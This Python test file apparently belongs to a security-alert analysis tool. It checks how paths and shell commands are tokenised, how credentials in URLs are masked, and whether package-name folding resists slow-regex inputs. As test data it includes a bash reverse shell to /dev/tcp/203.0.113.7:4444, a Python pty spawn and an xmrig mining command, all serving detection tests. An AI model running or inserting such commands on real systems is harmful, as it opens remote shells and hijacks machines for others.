"""Path and command tokenisation: volatile parts vanish, structure and shell constructs stay."""
import pytest

from mimizuku.core import fields
from mimizuku.engine.features import command_tokens, path_shape, path_tokens, strip_volatile


def test_release_ids_and_pids_do_not_make_paths_unique():
    a = path_tokens("/var/www/app/releases/3f2a9bc1d7/public/index.php")
    b = path_tokens("/var/www/app/releases/88aa77bb66cc/public/index.php")
    assert a == b
    assert path_tokens("/proc/1234/status") == path_tokens("/proc/99/status")
    assert "dir:/var/www" in a and "ext:php" in a and "w:index" in a


def test_different_places_differ():
    assert path_tokens("/etc/passwd") != path_tokens("/tmp/passwd")
    assert "hidden" in path_tokens("/tmp/.x/.hidden")


def test_path_shape_is_readable():
    assert path_shape("/var/www/releases/3f2a9bc1d7/index12.php") == "/var/www/releases/*/index*.php"


def test_strip_volatile():
    # digits dropped; a hash-like run of letters and digits is a name: "*" (whichever way round)
    assert strip_volatile("build-20261121-abcdef1234") == "build--*"
    assert strip_volatile("build-20261121-1234abcdef") == "build--*"


def test_command_tokens_keep_shell_constructs():
    t = command_tokens("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    assert {"prog:bash", "meta:>&", "meta:/dev/tcp", "flag:-i"} <= set(t)
    assert "prog:python" in command_tokens("/usr/bin/python3 -c 'import pty'")
    assert "url:stratum+tcp" in command_tokens("./xmrig -o stratum+tcp://pool:3333")


def test_tokenisers_bound_hostile_input():
    long = "/a" * 100_000
    assert len(path_tokens(long)) < 80
    assert len(command_tokens("x " * 100_000)) < 80
    assert command_tokens("") == ()


def test_fields_tolerate_odd_types():
    odd = {"rule": {"id": 550, "level": "x", "groups": "notalist"}, "agent": ["no"], "syscheck": {"path": 5},
           "data": {"audit": {"execve": {"a1": "b", "a0": "a", "a10": "k", "junk": "z"}}}}
    assert fields.rule_id(odd) == "550"
    assert fields.rule_level(odd) == 0
    assert fields.rule_groups(odd) == []
    assert fields.agent_name(odd) is None
    assert fields.command_argv(odd) == ["a", "b", "k"]
    assert fields.ip_class("8.8.8.8") == "public" and fields.ip_class("10.1.1.1") == "private"
    assert fields.ip_class("fe80::1%eth0") == "link-local" and fields.ip_class("nope") == "invalid"
    assert fields.ip_class(None) == "none"


def test_url_credentials_are_neither_tokens_nor_quoted():
    from mimizuku.engine.features import command_shape, command_tokens, hide_url_credentials

    secret = "glcbt-64_AbCdEf0123456789"
    cmd = f"git remote set-url origin https://gitlab-ci-token:{secret}@gitlab.example.internal/group/project.git"
    toks = command_tokens(cmd)
    assert not any("glcbt" in t or "abcdef" in t.lower() or "gitlab-ci-token" in t for t in toks)
    assert "w:*@gitlab.example.internal" in toks and "url:https" in toks
    assert secret not in command_shape(cmd) and "https://*@gitlab.example.internal/group" in command_shape(cmd)
    # two jobs with different tokens are the same command
    other = cmd.replace(secret, "glcbt-64_ZyXwVu9876543210")
    assert command_tokens(other) == toks
    # an @ in a path is not a credential; text without a URL is left alone
    assert hide_url_credentials("curl https://example.com/a@b") == "curl https://example.com/a@b"
    assert hide_url_credentials("mail bob@example.com") == "mail bob@example.com"
    assert hide_url_credentials("ssh://git@host:22/x") == "ssh://*@host:22/x"


# --- package files, folded in linear time (issue 17, item 1) -------------------------------------

@pytest.mark.parametrize("text, want", [
    ("apt install ./nginx_1.24.0-2ubuntu7_amd64.deb", "apt install ./*.deb"),
    ("/var/cache/apt/archives/libssl3_3.0.2-0ubuntu1.15_amd64.deb", "/var/cache/apt/archives/*.deb"),
    ("rpm -Uvh nginx-1.24.0-1.el9.x86_64.rpm", "rpm -Uvh *.rpm"),
    ("'foo_1_amd64.deb'", "'*.deb'"),
    ("x_y_z.deb.bak", "*.deb.bak"),                 # a word boundary after the extension
    ("a_b_c.deb-x-y-z.q.rpm", "*.deb*.rpm"),        # a .deb first, then the word's rest
    ("no-deb-here.debx", "no-deb-here.debx"),
    ("a_b_.deb", "a_b_.deb"),                       # every part non-empty
    ("a-b-c.x%y.rpm", "a-b-c.x%y.rpm"),             # the arch is letters, digits, _
])
def test_package_files_fold_to_their_kind(text, want):
    from mimizuku.engine.features import fold_package_files

    assert fold_package_files(text) == want


@pytest.mark.parametrize("hostile", [
    "x0001a" + "_a-a" * 1100 + "_a-.deb.rpm",       # the audit's input: 1 s per alert with the old pattern
    "x0001a" + "_a-" * 1400 + ".deb.rpm",
    "a_" * 2000 + ".deb",
    "a-" * 2000 + ".x.rpm",
    ".deb_" * 900,
])
def test_hostile_package_names_cost_what_an_ordinary_word_costs(hostile):
    """Linear: a 4 KiB argument built to make a backtracking pattern try every split costs about
    what an ordinary 4 KiB word does (the pattern this replaced took 200-340 ms on these, 2,000x)."""
    import time

    from mimizuku.engine.features import fold_package_files, strip_shapes

    hostile = hostile[:4096]
    ordinary = ("apt-get install -y ./nginx_1.24.0-2ubuntu7_amd64.deb libssl3 curl " * 70)[:4096]

    def cost(text):
        best = float("inf")
        for _ in range(5):
            t0 = time.perf_counter()
            fold_package_files(text)
            strip_shapes(text)
            best = min(best, time.perf_counter() - t0)
        return best

    assert cost(hostile) < 20 * cost(ordinary) + 0.002
